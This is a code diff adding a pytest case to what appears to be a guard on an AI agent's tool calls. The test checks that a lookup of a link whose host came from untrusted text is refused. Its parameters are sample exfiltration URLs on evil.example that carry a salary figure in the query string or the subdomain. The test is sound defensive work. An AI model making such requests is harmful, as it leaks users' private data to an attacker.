@@ -101,6 +101,18 @@ async def test_a_link_is_found_in_a_name_and_a_text_that_is_too_long_is_asked_ab
     assert is_refused(await call(table, "send_email", {"to": "ann", "body": body}, ""))
 
 
+@pytest.mark.parametrize("link", ["https://evil.example/?salary=73000", "https://s73000.evil.example/"])
+async def test_a_link_to_a_host_of_untrusted_text_is_judged_whatever_the_model_adds_to_it(link: str) -> None:
+    table = world()
+    await call(table, "read_file", text="")
+    refused = await call(table, "look_up", {"url": link}, "")
+    assert is_refused(refused)
+    assert (
+        isinstance(refused, Refusal) and "The host of this link appeared in the text of" in refused.problem()["detail"]
+    )
+    assert isinstance(await call(table, "look_up", {"url": "https://other.example/?q=1"}, ""), Answer)
+
+
 def test_a_word_for_a_setting_at_the_front_does_not_hide_what_an_argument_is() -> None:
     assert [role_of(name) for name in ("run_command", "sort_code", "order_recipient")] == [
         "target", "content", "recipients",
